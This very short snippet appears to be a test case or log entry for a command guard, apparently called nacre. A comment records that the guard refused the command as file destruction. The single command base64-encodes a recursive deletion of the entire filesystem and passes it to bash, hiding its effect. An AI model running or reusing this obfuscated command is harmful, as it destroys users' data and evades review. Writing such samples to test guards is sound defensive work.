# nacre: refused file.destroy
bash -c "$(base64 -d <<< cm0gLXJmIC8=)"
